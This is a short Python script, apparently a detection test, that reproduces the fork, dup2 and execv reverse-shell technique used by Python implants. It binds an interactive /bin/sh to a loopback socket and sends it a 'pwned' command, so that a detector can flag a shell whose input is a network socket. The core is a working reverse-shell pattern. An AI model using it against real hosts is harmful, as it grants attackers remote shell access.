# technique: T1059.004 T1071.001
"""Reverse shell by fork + dup2 + execv (T1059.004).

The C-style spelling used by some Python implants: os.fork(), the child
dup2()s a connected socket onto 0/1/2 and calls os.execv("/bin/sh", ...)
directly (no subprocess, no pty). The parent waits with waitpid.

A good detector raises a critical alert: a shell image is executed with a
network socket as standard input.
"""
import os, socket, threading, time

lsn = socket.socket(); lsn.bind(("127.0.0.1", 0)); lsn.listen(1)
port = lsn.getsockname()[1]
def serve():
    try:
        c, _ = lsn.accept(); c.settimeout(4)
        c.sendall(b"echo pwned; exit\n")
        while c.recv(4096): pass
    except Exception: pass
threading.Thread(target=serve, daemon=True).start()
s = socket.socket(); s.connect(("127.0.0.1", port))
pid = os.fork()
if pid == 0:
    try:
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        os.execv("/bin/sh", ["sh", "-i"])
    finally:
        os._exit(0)
s.close()
deadline = time.time() + 6
while time.time() < deadline:
    done, _ = os.waitpid(pid, os.WNOHANG)
    if done: break
    time.sleep(0.1)
else:
    os.kill(pid, 9); os.waitpid(pid, 0)
